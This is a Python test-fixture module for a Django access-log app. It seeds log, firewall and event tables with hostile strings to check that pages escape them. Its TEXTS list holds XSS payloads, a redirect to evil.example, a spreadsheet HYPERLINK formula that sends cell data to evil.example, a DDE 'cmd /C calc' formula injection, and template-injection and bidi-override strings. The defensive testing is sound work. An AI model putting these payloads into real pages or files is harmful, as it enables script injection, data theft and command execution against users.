"""Texts that try to leave their place in a page, and rows that have one of them in every column."""

from __future__ import annotations

import itertools
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from ipaddress import ip_address
from typing import Any

from django.db import models

from ideolab_accesslog.models import AccessLog, ConnmonEvent, FirewallActionLog, OffenceLog, TrashIP
from ideolab_accesslog.models.events import EventDay, EventHour
from ideolab_accesslog.networks import order

ADDRESS = "198.51.100.7"
NETWORK = "198.51.100.0/24"
#: direction marks, isolates, and what ends a line in a script
BIDI = "\u202e\u202d\u2066\u2067\u2069\u200f\u200e\u061c"
TEXTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</title></style></textarea></template><script>alert(3)</script>",
    '"><img src=x onerror=alert(4)>',
    "' onmouseover='alert(5)' autofocus onfocus='alert(6)",
    "javascript:alert(7)",
    "data:text/html,<script>alert(8)</script>",
    "<svg/onload=alert(9)>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    f"{BIDI}gnp.exe",
    "nul\x00bell\x07escape\x1b[31m",
    "line\r\nfeed\u2028separator\u2029tab\t",
    "😀💣 é 中文 עברית العربية",
    "A" * 10_000,
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3;=1+1",
    "{{7*7}}${7*7}#{7*7}%s%(x)s{0}",
    "<!-- ]]> &lt;b&gt; &#x3C;script&#x3E; %3Cscript%3E \\u003cscript\\u003e",
)
#: a country has two letters where the pack writes it; the column has room for eight characters
_SHORT = ("<b>x</b>", "\u202eRF", "'><", "=1+1", '"&<', "😀😀", "\x00FR", "</td>")
#: columns that hold what the database or the app itself makes
_OWN = {
    "id",
    "ts",
    "ip",
    "client_ip",
    "until",
    "created_at",
    "event_id",
    "batch",
    "type",
    "hour",
    "day",
    "kind",
}


def fill(now: datetime) -> None:
    """Write a row of each table for each text: the newest rows, so that every list shows them."""
    rows = [row for number in range(len(TEXTS)) for row in _make_rows(number, now)]
    for row in rows:
        row.save()
    for number, text in enumerate(TEXTS):
        EventDay.objects.get_or_create(
            day=now.date(), kind="asn", key=str(64496 + number), defaults={"name": text[:255], "count": 9}
        )
        EventDay.objects.get_or_create(
            day=now.date(), kind="country", key=_short(number), defaults={"count": 9}
        )
        hour = now.replace(minute=0, second=0, microsecond=0)
        EventHour.objects.get_or_create(hour=hour, type="ban", jail=text[:64], defaults={"count": 9})


def _make_rows(number: int, now: datetime) -> Iterator[models.Model]:
    ts = now - timedelta(seconds=number)
    ip = ADDRESS if number % 2 else f"198.51.100.{number}"
    event = {
        "ts": ts,
        "type": "ban",
        "ip": ip,
        "start": order(ip_address(ip)),
        "subnet": NETWORK,
        "asn": str(64496 + number),
        "country": _short(number),
        "event_id": f"hostile-{number}",
        "until": now + timedelta(hours=1),
        "raw": {text[:40]: [text] for text in TEXTS},
    }
    yield _make(ConnmonEvent, number, event)
    yield _make(
        ConnmonEvent,
        number,
        {
            **event,
            **{"type": "suspect", "ip": ADDRESS, "start": order(ip_address(ADDRESS))},
            "event_id": f"seen-{number}",
        },
    )
    yield _make(AccessLog, number, {"ts": ts, "ip": ADDRESS, "status_code": 200})
    yield _make(
        FirewallActionLog, number, {"ts": ts, "batch": uuid.UUID(int=number), "action": "ban", "ip": ADDRESS}
    )
    yield _make(OffenceLog, number, {"ts": ts, "ip": ADDRESS, "client_ip": ADDRESS, "status_code": 404})
    yield _make(
        TrashIP, number, {"ip": ADDRESS if number == 0 else f"198.51.100.{100 + number}", "last_seen": now}
    )


def _make(model: Any, number: int, values: dict[str, Any]) -> models.Model:
    """Return a row with the given values, and a hostile text in every other column of text."""
    texts = itertools.islice(itertools.cycle(TEXTS), number, None)
    for field in model._meta.concrete_fields:
        if (
            field.name in values
            or field.name in _OWN
            or not isinstance(field, (models.CharField, models.TextField))
        ):
            continue
        choices = [value for value, _label in field.choices or ()]
        values[field.name] = choices[number % len(choices)] if choices else next(texts)[: field.max_length]
    made: models.Model = model(**values)
    return made


def _short(number: int) -> str:
    return _SHORT[number % len(_SHORT)]
